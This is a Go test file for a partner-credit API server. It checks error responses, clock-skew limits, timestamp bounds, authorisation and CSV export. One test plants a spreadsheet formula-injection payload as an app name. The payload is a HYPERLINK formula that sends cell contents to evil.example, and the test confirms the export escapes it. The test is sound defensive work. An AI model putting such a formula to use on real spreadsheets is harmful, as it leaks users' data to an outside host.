package server_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/palproject/pal/internal/server"
	"github.com/palproject/pal/internal/store"
)

// TestUnroutedInTheAPIShape: a path no endpoint serves, or a method its
// endpoint does not take, is answered with the API's error body, as every
// other error (SPEC.md section 8), with Allow for a method.
func TestUnroutedInTheAPIShape(t *testing.T) {
	s := start(t, sqliteStore(t), server.Config{})
	account := s.token(store.RoleAccount, "contoso", "alice", "")
	for _, tt := range []struct {
		method, path string
		status       int
		code, allow  string
	}{
		{"PUT", "/providers/Microsoft.ManagementPartner/partners", 405, "BadRequest", "GET"},
		{"POST", "/providers/Microsoft.ManagementPartner/partners/1000001", 405, "BadRequest", "GET, PUT, PATCH, DELETE"},
		{"GET", "/providers/Microsoft.ManagementPartner/partners/", 404, "NotFound", ""},
		{"GET", "/v1/nothing", 404, "NotFound", ""},
		{"DELETE", "/v1/log", 405, "BadRequest", "GET"},
	} {
		req, _ := http.NewRequest(tt.method, s.url+tt.path, nil)
		req.Header.Set("Authorization", "Bearer "+account)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var body struct {
			Error struct{ Code, Message string }
		}
		err = json.NewDecoder(resp.Body).Decode(&body)
		resp.Body.Close()
		if resp.StatusCode != tt.status || err != nil || body.Error.Code != tt.code || body.Error.Message == "" || resp.Header.Get("Allow") != tt.allow {
			t.Errorf("%s %s: %d %+v (%v), Allow %q; want %d %s, Allow %q", tt.method, tt.path, resp.StatusCode, body, err, resp.Header.Get("Allow"), tt.status, tt.code, tt.allow)
		}
	}
	// The pages are still served.
	if status, _ := s.call("GET", "/", "", ""); status != http.StatusOK {
		t.Errorf("GET /: %d", status)
	}
}

// TestNoLineFromTheFuture: the present of every answer is the latest
// line's time, so no one but the operator may push a line later than the
// service's clock (a few minutes' skew allowed).
func TestNoLineFromTheFuture(t *testing.T) {
	now := time.Date(2026, 4, 1, 12, 0, 0, 0, time.UTC)
	s := start(t, sqliteStore(t), server.Config{Clock: func() time.Time { return now }})
	operator := s.token(store.RoleOperator, "", "", "")
	s.push(operator, demoLog(t))
	bob := s.token(store.RoleAccount, "contoso", "bob@northwind.example", "")
	line := func(at time.Time) string {
		return fmt.Sprintf(`{"type":"pal.removed","time":%q,"tenant":"contoso","account":"bob@northwind.example"}`, at.Format(time.RFC3339))
	}
	var res struct {
		Accepted int
		Refused  []struct{ Code, Message string }
	}
	if s.json("POST", "/v1/events", bob, line(now.Add(time.Hour)), &res); res.Accepted != 0 || len(res.Refused) != 1 || res.Refused[0].Code != "forbidden" || !strings.Contains(res.Refused[0].Message, "after the service's clock") {
		t.Errorf("an account's line an hour ahead: %+v, want it refused", res)
	}
	if s.json("POST", "/v1/events", bob, line(now.Add(time.Minute)), &res); res.Accepted != 1 {
		t.Errorf("an account's line a minute ahead (clock skew): %+v, want it accepted", res)
	}
	var me struct{ Now time.Time }
	s.json("GET", "/v1/me", operator, "", &me)
	if !me.Now.Equal(now.Add(time.Minute)) {
		t.Errorf("the present is %s, want the accepted line's", me.Now)
	}
	if s.json("POST", "/v1/events", operator, `{"type":"account.created","time":"2099-01-01T00:00:00Z","tenant":"contoso","account":"zed","kind":"user"}`, &res); res.Accepted != 1 {
		t.Errorf("the operator's line from the future: %+v, want it accepted", res)
	}
}

// TestCSVRunsNoFormula: a name a customer gives its app reaches a
// partner's download as text, never as a spreadsheet formula.
func TestCSVRunsNoFormula(t *testing.T) {
	s := start(t, sqliteStore(t), server.Config{})
	operator := s.token(store.RoleOperator, "", "", "")
	s.push(operator, demoLog(t))
	const name = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	line := fmt.Sprintf(`{"type":"resource.created","time":"2026-03-01T00:00:00Z","tenant":"contoso","environment":"contoso-prod","resource":"evil","kind":"canvas_app","owner":"alice@fabrikam.example","name":%q}`, name)
	var res struct{ Accepted int }
	if s.json("POST", "/v1/events", s.token(store.RoleTenantAdmin, "contoso", "", ""), line, &res); res.Accepted != 1 {
		t.Fatalf("the app was not created: %+v", res)
	}
	status, body := s.call("GET", "/v1/tables/credited?format=csv&q=evil", s.token(store.RolePartnerReader, "", "", "1000001"), "")
	if status != http.StatusOK || !strings.Contains(string(body), `'=HYPERLINK(`) || strings.Contains(string(body), `,"=HYPERLINK(`) {
		t.Errorf("the download: %d\n%s\nwant the name as text, after a '", status, body)
	}
}

// TestParametersSaidPlainly: the edges of a month, a partner reader's own
// organisation by default, and errors that name what was asked.
func TestParametersSaidPlainly(t *testing.T) {
	s := start(t, sqliteStore(t), server.Config{})
	operator := s.token(store.RoleOperator, "", "", "")
	s.push(operator, demoLog(t))
	reader := s.token(store.RolePartnerReader, "", "", "1000001")
	if status, body := s.call("GET", "/v1/tables/organisations?month=0000-01", operator, ""); status != http.StatusBadRequest || !strings.Contains(string(body), "before the year 0001") {
		t.Errorf("the organisations of 0000-01: %d %s, want 400", status, body)
	}
	var score struct{ Org string }
	if status := s.json("GET", "/v1/reports/pcs?month=2026-03", reader, "", &score); status != http.StatusOK || score.Org != "1000001" {
		t.Errorf("a partner reader's score with no org: %d %+v, want its own", status, score)
	}
	if status, body := s.call("GET", "/v1/diagnosis?org=2000001", reader, ""); status != http.StatusForbidden || !strings.Contains(string(body), "own organisation's diagnosis") {
		t.Errorf("another organisation's diagnosis: %d %s", status, body)
	}
	// An organisation no one registered is not found, on every route that
	// names one; a location ID says whose it is.
	for _, path := range []string{"/v1/diagnosis?org=9999999", "/v1/reports/pcs?month=2026-03&org=9999999", "/v1/tables/credited?org=9999999"} {
		if status, body := s.call("GET", path, operator, ""); status != http.StatusNotFound || !strings.Contains(string(body), "9999999 is not registered") {
			t.Errorf("%s: %d %s, want 404", path, status, body)
		}
	}
	if status, body := s.call("GET", "/v1/diagnosis?org=1000011", operator, ""); status != http.StatusNotFound || !strings.Contains(string(body), "location ID of organisation 1000001") {
		t.Errorf("a diagnosis of a location ID: %d %s, want 404 naming its organisation", status, body)
	}
}

// TestInstantsTheStoreKeeps: the store orders and bounds records by their
// time in nanoseconds since 1970, in 64 bits; a line outside those years
// is refused as invalid_time rather than kept out of its place, and an
// explanation before every record, the zero instant of year 1 included, is
// of no state at all, as pal says on the log.
func TestInstantsTheStoreKeeps(t *testing.T) {
	s := start(t, sqliteStore(t), server.Config{})
	operator := s.token(store.RoleOperator, "", "", "")
	s.push(operator, demoLog(t))
	res := s.push(operator, `{"type":"account.created","time":"1500-01-01T00:00:00Z","tenant":"contoso","account":"old","kind":"user"}
{"type":"account.created","time":"2300-01-01T00:00:00Z","tenant":"contoso","account":"late","kind":"user"}`)
	if res.Accepted != 0 || len(res.Refused) != 2 || res.Refused[0].Code != "invalid_time" || res.Refused[1].Code != "invalid_time" ||
		!strings.Contains(res.Refused[0].Message, "1677-09-21") {
		t.Errorf("lines of 1500 and 2300: %+v, want both refused as invalid_time, saying which instants the service keeps", res)
	}
	for _, at := range []string{"0001-01-01", "0001-01-01T00:00:00Z", "1600-01-01"} {
		var x struct {
			Exists bool `json:"exists"`
		}
		if status := s.json("GET", "/v1/explain?tenant=contoso&resource=expenses&at="+at, operator, "", &x); status != http.StatusOK || x.Exists {
			t.Errorf("explain at %s: %d, exists %v; want no resource yet", at, status, x.Exists)
		}
	}
}
